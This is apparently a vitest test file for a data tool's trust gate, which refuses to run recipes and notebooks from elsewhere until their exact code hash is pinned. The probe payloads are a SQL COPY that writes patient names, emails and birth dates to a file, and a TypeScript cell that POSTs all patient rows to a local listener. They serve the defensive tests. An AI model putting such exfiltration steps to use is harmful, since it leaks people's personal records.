// Issue 18, item 1: a recipe or notebook from elsewhere is code, and runs nothing until a person
// trusted exactly that code here. The recipe is the probe's: a cleaning step that COPYs patients
// to a file, and a notebook whose TypeScript cell posts rows to a local listener.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApi } from '../../src/lib/server/api/index.js';
import { runNotebook, saveNotebook } from '../../src/lib/server/cells/index.js';
import { importExport } from '../../src/lib/server/ingest/index.js';
import { parseRecipe, recipeCode, replayRecipe, saveWorkspaceRecipe, UntrustedRecipeError } from '../../src/lib/server/recipes/index.js';
import { exportFolder, freshWorkspace } from '../helpers.js';
import { ferryBin } from '../support/cli.js';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ferry-trust-'));
const cells = path.join(tmp, 'cells');
const recipesDir = path.join(tmp, 'recipes');
process.env.FERRY_CELLS = cells;
process.env.FERRY_RECIPES = recipesDir;
const leak = path.join(tmp, 'x.csv');
const EXPORT = exportFolder({ 'patients.csv': 'Patient ID,First Name,Last Name,Email,Date Of Birth\n1,Ann,Lee,ann@x.com,1950-01-02\n' });
let listener: http.Server;
let hits = 0;
let port = 0;

const COPY = `select * from raw.patients; COPY (select first_name, last_name, email, date_of_birth from raw.patients) TO '${leak}' (HEADER); select 1`;
const TS = () =>
	`const rows = await sql\`select * from raw.patients\`;\nawait fetch('http://127.0.0.1:${port}/', { method: 'POST', body: JSON.stringify(rows) });\nreturn rows.length;`;
const recipe = () =>
	parseRecipe({
		format: 'ferry-recipe',
		version: 2,
		name: 'probe',
		import: { files: [] },
		cleaning: [{ name: 'cleaned', sql: COPY }, { notebook: 'probe' }]
	});

beforeAll(async () => {
	listener = http.createServer((_req, res) => res.end('ok'));
	listener.on('connection', () => hits++);
	await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
	port = (listener.address() as AddressInfo).port;
	saveNotebook('probe', { text: `\`\`\`ts name=leak\n${TS()}\n\`\`\`\n` });
	fs.mkdirSync(recipesDir, { recursive: true });
	fs.writeFileSync(path.join(recipesDir, 'probe.recipe.json'), JSON.stringify(recipe()));
});
afterAll(() => listener?.close());

async function snapshots(ws: Awaited<ReturnType<typeof freshWorkspace>>): Promise<number> {
	return Number((await ws.one<{ n: bigint }>(`select count(*) as n from ferry.snapshots`))!.n);
}

describe('an untrusted recipe runs nothing', () => {
	it('replay refuses before the import, listing every piece of SQL and TypeScript with its hash', async () => {
		const ws = await freshWorkspace('trust');
		const err = await replayRecipe(ws, recipe(), { export: EXPORT }).catch((e) => e);
		expect(err).toBeInstanceOf(UntrustedRecipeError);
		expect(err.message).toMatch(/recipe probe runs 1 SQL piece\(s\) and 1 TypeScript piece\(s\) that this workspace has not trusted/);
		expect(err.code.items).toEqual([
			{ kind: 'sql', where: 'cleaning view cleaned', text: COPY },
			{ kind: 'ts', where: 'notebook probe / cell leak', text: TS() }
		]);
		expect(err.code.hash).toMatch(/^[0-9a-f]{64}$/);
		expect(await snapshots(ws)).toBe(0);
		expect(fs.existsSync(leak)).toBe(false);
		expect(hits).toBe(0);
	});

	it('ferry run lists the code and exits 2; a wrong pinned hash is refused; the right one runs, fenced', () => {
		const env = { ...process.env, FERRY_DATA: path.join(tmp, 'data'), TWENTY_API_KEY: '' };
		const ferry = (...args: string[]) =>
			spawnSync(
				process.execPath,
				[ferryBin(), 'run', path.join(recipesDir, 'probe.recipe.json'), '--export', EXPORT, '-w', 'cli-trust', ...args],
				{ env, encoding: 'utf8', timeout: 120_000 }
			);
		const refused = ferry();
		expect(refused.status, refused.stderr).toBe(2);
		expect(refused.stderr).toContain('--- SQL: cleaning view cleaned');
		expect(refused.stderr).toContain(`TO '${leak}'`);
		expect(refused.stderr).toContain('--- TypeScript: notebook probe / cell leak');
		expect(refused.stderr).toContain('await fetch(');
		const hash = /SHA-256 ([0-9a-f]{64})/.exec(refused.stderr)![1];
		expect(refused.stdout).not.toMatch(/import: snapshot/);
		const wrong = ferry('--trust-hash', 'a'.repeat(64));
		expect(wrong.status).toBe(2);
		expect(wrong.stderr).toMatch(/not the pinned a{64}: the recipe or a notebook it runs changed/);
		const pinned = ferry('--trust-hash', hash);
		// Trusted, it runs: the three-statement step is still refused and the cell's fetch is denied.
		expect(pinned.status, pinned.stderr).toBe(3);
		expect(pinned.stdout).toMatch(/problem: cleaning view cleaned failed: view cleaned must be one SELECT query/);
		expect(pinned.stdout).toMatch(/problem: notebook probe: cell leak failed/);
		expect(fs.existsSync(leak)).toBe(false);
		expect(hits).toBe(0);
		const shown = spawnSync(
			process.execPath,
			[ferryBin(), 'run', path.join(recipesDir, 'probe.recipe.json'), '--show-code', '-w', 'cli-trust'],
			{ env, encoding: 'utf8', timeout: 60_000 }
		);
		expect(shown.status).toBe(0);
		expect(shown.stdout).toContain(`SHA-256 ${hash}`);
		expect(shown.stdout).toMatch(/trusted in this workspace/);
	}, 180_000);

	it('the API answers 409 with the listing; trusting the shown hash is recorded in the audit log', async () => {
		const ws = await freshWorkspace('apitrust');
		const api = createApi({ token: 'trust-token' });
		const req = (p: string, body?: unknown) =>
			api.request(`http://127.0.0.1/api/workspaces/${ws.name}${p}`, {
				method: body ? 'POST' : 'GET',
				headers: { authorization: 'Bearer trust-token', 'content-type': 'application/json' },
				body: body ? JSON.stringify(body) : undefined
			});
		const listed = await (await req('/recipes/probe/code')).json();
		expect(listed).toMatchObject({ trusted: false, items: [{ kind: 'sql' }, { kind: 'ts' }] });
		const refused = await req('/recipes/probe/replay?wait=true', { export: EXPORT });
		expect(refused.status).toBe(409);
		expect((await refused.json()).untrusted.hash).toBe(listed.hash);
		expect(await snapshots(ws)).toBe(0);
		const ran = await req('/recipes/probe/replay?wait=true', { export: EXPORT, trust: listed.hash });
		expect(ran.status).toBe(200);
		expect((await ran.json()).status).toBe('blocked');
		const audit = await ws.all<{ action: string; subject: string; detail: string }>(
			`select action, subject, detail::varchar as detail from ferry.audit_log where action = 'recipe.trust'`
		);
		expect(audit).toHaveLength(1);
		expect(JSON.parse(audit[0].detail)).toMatchObject({ hash: listed.hash, how: 'pinned hash', sql: 1, ts: 1 });
		expect((await (await req('/recipes/probe/code')).json()).trusted).toBe(true);
		expect(fs.existsSync(leak)).toBe(false);
		expect(hits).toBe(0);
	});

	it('a recipe saved from this workspace is trusted here, until a notebook it runs changes', async () => {
		const ws = await freshWorkspace('saved');
		await importExport(ws, EXPORT);
		saveNotebook('mine', { text: '```sql name=adults\nselect * from raw.patients\n```\n' });
		expect((await runNotebook(ws, 'mine')).ran).toEqual(['adults']); // a notebook that ran here goes into the recipe
		const { recipe: saved } = await saveWorkspaceRecipe(ws, 'mine');
		const code = await recipeCode(ws, saved);
		expect(code.items).toContainEqual({ kind: 'sql', where: 'notebook mine / cell adults', text: 'select * from raw.patients' });
		expect(code.trusted).toBe(true);
		saveNotebook('mine', { text: `\`\`\`ts name=adults\n${TS()}\n\`\`\`\n` });
		expect((await recipeCode(ws, saved)).trusted).toBe(false);
		const other = await freshWorkspace('elsewhere');
		saveNotebook('mine', { text: '```sql name=adults\nselect * from raw.patients\n```\n' });
		expect((await recipeCode(other, saved)).trusted).toBe(false);
	});
});
